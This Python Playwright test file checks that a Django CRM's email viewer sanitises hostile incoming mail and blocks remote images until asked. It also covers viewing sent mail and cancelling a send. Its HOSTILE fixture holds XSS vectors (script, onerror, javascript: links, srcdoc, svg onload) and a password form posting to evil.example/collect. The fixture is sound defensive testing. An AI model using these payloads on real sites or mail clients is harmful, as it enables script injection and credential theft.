"""The email page in a real browser: hostile mail runs and fetches nothing until asked,
and a sent email shows its people, attachments and timeline at two widths."""

from __future__ import annotations

import base64

import pytest

from activities.models import Direction, EmailStatus
from activities.services.attachments import attachment_store
from activities.services.emails import email_create, email_send
from activities.services.transitions import record_event, transition
from tests.factories import ContactFactory, EmailFactory

from .conftest import PHONE

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")

# Every way in that each would set ``pwned`` on the page (or the frame) or open a dialog.
HOSTILE = """
<p>Dear customer, please see the offer below.</p>
<script>parent.pwned = 1; top.pwned = 1; window.pwned = 1; alert("script")</script>
<img src=x onerror="parent.pwned = 1; top.pwned = 1; alert('onerror')">
<p><a href="javascript:top.pwned = 1; alert('link')">Claim your prize</a>
   <a href="JaVaScRiPt:parent.pwned=1">and this</a></p>
<iframe srcdoc="<script>top.pwned = 1; alert('srcdoc')</script>"></iframe>
<svg onload="top.pwned = 1"><script>top.pwned = 1</script></svg>
<object data="javascript:top.pwned=1"></object>
<form action="https://evil.example/collect"><input name="password"><button>Go</button></form>
<p>Our logo: <img src="https://images.example/pixel.gif" alt="tracking pixel"></p>
<div style="background-image: url(https://images.example/background.png); color: #333">
  styled text</div>
<style>body { background: url(https://images.example/css.png) }</style>
<link rel="stylesheet" href="https://images.example/style.css">
<p onmouseover="top.pwned = 1">Hover me</p>
"""


def pwned(frame) -> object:
    return frame.evaluate("window.pwned")


def test_hostile_incoming_mail_runs_nothing_and_loads_nothing_until_asked(
    page, live_server, sign_in, watch, screenshot, owner
):
    email = EmailFactory(
        sender_user=owner,
        direction=Direction.INCOMING,
        status=EmailStatus.RECEIVED,
        subject="You have won!",
        from_address="prize@lottery.example",
        body_html=HOSTILE,
        body_text="",
    )
    sign_in(owner)

    page.goto(f"/mail/{email.pk}/")
    frame_element = page.locator("iframe[title='Message body']")
    frame_element.wait_for()
    body = page.frame_locator("iframe[title='Message body']")
    assert "offer below" in body.locator("body").inner_text()
    frame = frame_element.element_handle().content_frame()
    page.wait_for_load_state("load")

    # Try the links and the hover too: nothing may run.
    body.get_by_text("Hover me").hover()
    assert body.locator("a[href^='javascript' i]").count() == 0
    assert body.locator("body :is(script, iframe, object, svg, form, style, link)").count() == 0
    assert page.get_by_role("status").inner_text().startswith("1 remote image was blocked")
    screenshot(page, "email-hostile")

    assert watch.dialogs == []
    assert pwned(page) is None and pwned(frame) is None
    assert watch.foreign_requests(live_server.url) == []
    # The frame's own policy would have stopped a script that got through.
    sandbox = frame_element.get_attribute("sandbox")
    assert "allow-scripts" not in sandbox and "allow-same-origin" in sandbox

    requested: list[str] = []

    def pixel(route) -> None:
        requested.append(route.request.url)
        route.fulfill(status=200, content_type="image/gif", body=PIXEL)

    page.route("**/pixel.gif", pixel)
    page.get_by_role("link", name="Load remote images").click()
    page.wait_for_function(
        "() => { const img = document.querySelector('iframe').contentDocument"
        ".querySelector('img[src$=\"pixel.gif\"]'); return img && img.naturalWidth === 1; }"
    )
    assert requested == ["https://images.example/pixel.gif"]
    assert page.get_by_text("Remote images are shown.").is_visible()
    assert page.url.endswith(f"/mail/{email.pk}/?images=1")
    # Still nothing ran, and nothing but the asked-for image left for another host.
    frame = frame_element.element_handle().content_frame()
    assert watch.dialogs == []
    assert pwned(page) is None and pwned(frame) is None
    foreign = watch.foreign_requests(live_server.url)
    assert foreign == ["https://images.example/pixel.gif"]
    assert watch.page_errors == [] and watch.console_errors == []


def test_a_sent_email_shows_its_people_attachments_and_timeline(
    page, live_server, sign_in, watch, screenshot, owner, team_queue
):
    zoe = ContactFactory(first_name="Zoe", last_name="Zed", email="zoe.zed@customer.example")
    email = email_create(
        actor=owner,
        sender=team_queue,
        subject="Your renewal quote for 2026",
        to=[zoe, "purchasing@customer.example"],
        cc=["finance@customer.example"],
        regarding=zoe,
        body_html=(
            "<h2>Hello Zoe,</h2><p>Thank you for another year with us. Your renewal quote "
            "is attached, with the terms.</p>"
            + "<p>Each line of the quote is explained in the terms.</p>" * 6
            + "<p>Kind regards,<br>Alice Archer<br>Support</p>"
        ),
        body_text="Hello Zoe",
    )
    quote = b"%PDF-1.7\n" + bytes(range(256)) * 40
    attachment_store(owner=email, source=quote, filename="Renewal quote 2026.pdf", actor=owner)
    attachment_store(
        owner=email, source=b"Terms and conditions\n" * 50, filename="terms.txt", actor=owner
    )
    email = email_send(email=email, actor=owner)
    transition(
        email_id=email.pk, to=EmailStatus.SENDING, allowed_from=[EmailStatus.PENDING_SEND],
        action="claim", actor_label="worker celery@mail-1", reason="claimed for delivery",
    )  # fmt: skip
    transition(
        email_id=email.pk, to=EmailStatus.SENT, allowed_from=[EmailStatus.SENDING],
        action="deliver", actor_label="worker celery@mail-1",
        reason="250 2.0.0 Ok: queued as 4F2A1",
    )  # fmt: skip
    record_event(
        email_id=email.pk, kind="delivery", actor_label="provider webhook",
        reason="delivered to zoe.zed@customer.example",
    )  # fmt: skip
    sign_in(owner)

    page.goto(f"/mail/{email.pk}/")
    assert page.get_by_role("heading", name="Your renewal quote for 2026").is_visible()
    assert page.get_by_text("Zoe Zed").first.is_visible()
    assert page.get_by_text("250 2.0.0 Ok: queued as 4F2A1").is_visible()
    assert page.get_by_text("worker celery@mail-1").first.is_visible()
    assert page.get_by_role("button", name="Cancel sending").count() == 0
    # The frame grows to its content: no scrollbar inside it.
    page.wait_for_function(
        "() => { const f = document.querySelector('iframe.email-frame');"
        " const d = f.contentDocument; return d && d.readyState === 'complete' &&"
        " f.clientHeight >= d.documentElement.scrollHeight; }"
    )
    screenshot(page, "email-page")

    with page.expect_download() as info:
        page.get_by_role("link", name="Renewal quote 2026.pdf").click()
    download = info.value
    assert download.suggested_filename == "Renewal quote 2026.pdf"
    assert open(download.path(), "rb").read() == quote

    page.get_by_role("link", name="Mail about Zoe Zed").click()
    page.wait_for_url("**/mail/sent/?regarding_type=contact*")
    assert page.get_by_text("About contact Zoe Zed").is_visible()
    screenshot(page, "mail-list-regarding")
    page.get_by_role("link", name="Your renewal quote for 2026").click()
    page.wait_for_url(f"**/mail/{email.pk}/")

    page.set_viewport_size(PHONE)
    page.reload()
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    screenshot(page, "email-page-phone")
    assert watch.page_errors == [] and watch.console_errors == []
    assert watch.foreign_requests(live_server.url) == []


def test_cancel_sending_from_the_page(page, live_server, sign_in, watch, screenshot, owner):
    email = email_create(actor=owner, subject="Not ready yet", to=["bob@example.org"])
    sign_in(owner)

    page.goto(f"/mail/{email.pk}/")
    page.get_by_role("button", name="Cancel sending").click()
    page.wait_for_load_state()
    assert page.get_by_text("Sending canceled").is_visible()
    assert page.locator(".email-status .badge").inner_text() == "Canceled"
    email.refresh_from_db()
    assert email.status == EmailStatus.CANCELED
    assert watch.page_errors == [] and watch.console_errors == []
